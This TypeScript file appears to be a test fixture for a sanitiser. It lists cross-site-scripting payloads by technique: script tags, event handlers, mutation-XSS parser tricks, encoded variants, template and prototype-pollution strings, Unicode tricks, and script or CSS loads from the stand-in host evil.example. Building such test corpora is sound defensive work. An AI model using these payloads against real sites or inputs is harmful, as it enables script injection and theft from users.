/** Texts that try to become markup or script, by how they try it. What runs calls the mark, which the browser's watch defines. */
import { HOSTILE_ADDRESSES, MARK } from './addresses.ts';

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe',
  'object data=x',
  'math',
  'form',
  'a href=#',
];
const MORE_ELEMENTS = [
  'p',
  'div',
  'table',
  'marquee',
  'select autofocus',
  'textarea autofocus',
  'button autofocus',
  'style',
  'embed src=x',
  'keygen autofocus',
];
const EVENTS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onstart', 'onanimationstart', 'onpointerenter'];

/** Ways to write an attribute. */
const ATTRIBUTES: readonly ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}='${value}'`,
  (name, value) => ` ${name}=${value}`,
  (name, value) => ` ${name}=\`${value}\``,
  (name, value) => `/${name}=${value}`,
  (name, value) => `\n${name}\n=\n"${value}"`,
  (name, value) => ` ${name.toUpperCase()}="${value}"`,
  (name, value) => ` x="'"${name}="${value}"`,
];

const handlers = [...ELEMENTS, ...MORE_ELEMENTS].flatMap((element, at) =>
  EVENTS.filter((_, place) => place % 2 === at % 2).map(
    (event, place) => `<${element}${ATTRIBUTES[(at + place) % ATTRIBUTES.length]?.(event, MARK) ?? ''}>`,
  ),
);

const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">seen</a>`,
  (address) => `<img src="${address}" alt="seen">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>seen</button></form>`,
  (address) => `<button formaction="${address}">seen</button>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>seen</text></a></svg>`,
  (address) => `<math href="${address}">seen</math>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<link rel="stylesheet" href="${address}">`,
];
/** As it stands in a quoted attribute. */
const quoted = (address: string): string => address.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const placed = HOSTILE_ADDRESSES.scripts.slice(0, 46).map((address, at) => PLACES[at % PLACES.length]?.(quoted(address)) ?? '');

export const HOSTILE_MARKUP = {
  'script elements': [
    ...[`<script>${MARK}</script>`, `<SCRIPT>${MARK}</SCRIPT>`, `<script src=//evil.example/a.js></script>`, `<script/x>${MARK}</script>`],
    ...[
      `<script\n>${MARK}</script\n>`,
      `<script type=module>${MARK}</script>`,
      `<scr<script>ipt>${MARK}</scr</script>ipt>`,
      `<script>${MARK}`,
    ],
    ...[
      `</title><script>${MARK}</script>`,
      `</textarea><script>${MARK}</script>`,
      `"><script>${MARK}</script>`,
      `'><script>${MARK}</script>`,
    ],
    ...[
      `--><script>${MARK}</script>`,
      `]]><script>${MARK}</script>`,
      `<svg><script>${MARK}</script></svg>`,
      `<svg><script href="data:,${MARK}"/></svg>`,
    ],
    ...[
      `<math><script>${MARK}</script></math>`,
      `<noscript><script>${MARK}</script></noscript>`,
      `<template><script>${MARK}</script></template>`,
    ],
  ],
  handlers,
  'addresses in attributes': placed,
  'parsers that disagree': [
    `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
    `<svg><style><img src=x onerror=${MARK}></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${MARK}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${MARK}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${MARK}>`,
    `<!--><img src=x onerror=${MARK}>-->`,
    `<!--!><img src=x onerror=${MARK}>`,
    `<![CDATA[><img src=x onerror=${MARK}>]]>`,
    `<?xml ?><img src=x onerror=${MARK}>`,
    `<a title="</a><img src=x onerror=${MARK}>">seen</a>`,
    `<xmp><p title="</xmp><img src=x onerror=${MARK}>">`,
    `<plaintext><img src=x onerror=${MARK}>`,
    `<listing>&lt;img src=x onerror=${MARK}&gt;</listing>`,
    `<iframe srcdoc="<img src=x onerror=parent.${MARK}>"></iframe>`,
    `<textarea></textarea><img src=x onerror=${MARK}>`,
    `<select><option><style></option></select><img src=x onerror=${MARK}></style>`,
    `<table><td background="javascript:${MARK}"><caption><img src=x onerror=${MARK}>`,
    `<p <img src=x onerror=${MARK}>`,
    `<<img src=x onerror=${MARK}>`,
    `<img src=x onerror=${MARK}`,
    `<img """><script>${MARK}</script>">`,
    `<img src="x` + '`' + `<script>${MARK}</script>"` + '`' + '>',
  ],
  styles: [
    `<style>@import "//evil.example/a.css";</style>`,
    `<style>*{background:url(//evil.example/a)}</style>`,
    `<p style="background:url(//evil.example/b)">seen</p>`,
    `<p style="width:expression(${MARK})">seen</p>`,
    `<p style="-moz-binding:url(//evil.example/c#x)">seen</p>`,
    `<link rel=import href=//evil.example/d>`,
    `<link rel=preload as=script href=//evil.example/e>`,
    `<img src=//evil.example/f.png>`,
    `<img srcset="//evil.example/g.png 1x" src="/icons/icon.svg">`,
    `<video poster=//evil.example/h.png></video>`,
    `<picture><source srcset=//evil.example/i.png><img></picture>`,
    `<p style="position:fixed;inset:0;z-index:99999">over everything</p>`,
  ],
  'other encodings': [
    `&#60;img src=x onerror=${MARK}&#62;`,
    `&lt;script&gt;${MARK}&lt;/script&gt;`,
    `&amp;lt;script&amp;gt;${MARK}`,
    `%3Cscript%3E${MARK}%3C/script%3E`,
    `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`,
    `\\x3cimg src=x onerror=${MARK}\\x3e`,
    `+ADw-script+AD4-${MARK}+ADw-/script+AD4-`,
    `\uff1cscript\uff1e${MARK}\uff1c/script\uff1e`,
    `<scr\0ipt>${MARK}</scr\0ipt>`,
    `<img\0src=x\0onerror=${MARK}>`,
    `<\u0000script>${MARK}</script>`,
    `<img src=x onerror=&#109;arked()>`,
    `<img src=x onerror=\\u006darked()>`,
    `<a href="&#x6A;&#x61;vascript:${MARK}">seen</a>`,
    `<a href="jav&Tab;ascript&colon;${MARK}">seen</a>`,
    `<a href="javascript&NewLine;:${MARK}">seen</a>`,
    `\u2028<script>${MARK}</script>`,
  ],
  'words of templates': [
    `{{constructor.constructor('${MARK}')()}}`,
    '{{name}}',
    '$t(app.back)',
    '$t(app.back, {"count": 1})',
    `\${${MARK}}`,
    `#{${MARK}}`,
    `<%= ${MARK} %>`,
    `[[${MARK}]]`,
    `{% ${MARK} %}`,
    '{"__proto__":{"polluted":true}}',
    '__proto__',
    'constructor',
    'toString',
    `'-${MARK}-'`,
    `";${MARK};//`,
    `');${MARK};//`,
    `*/${MARK}/*`,
  ],
  'signs that turn, hide or fill': [
    '\u202eelppA\u202c',
    '\u2066\u2067\u2068left open',
    'A\u200bp\u200dp\u2060l\ufeffe',
    '\u0000\u0001\u001b[31mred\u001b[0m',
    `a${'\u0301'.repeat(300)}`,
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(40),
    'W'.repeat(280),
    '\ud800 alone',
    '\n\n\n\r\n\t',
    '=HYPERLINK("//evil.example")',
  ],
} as const satisfies Readonly<Record<string, readonly string[]>>;

export const ALL_MARKUP: readonly string[] = Object.values(HOSTILE_MARKUP).flat();
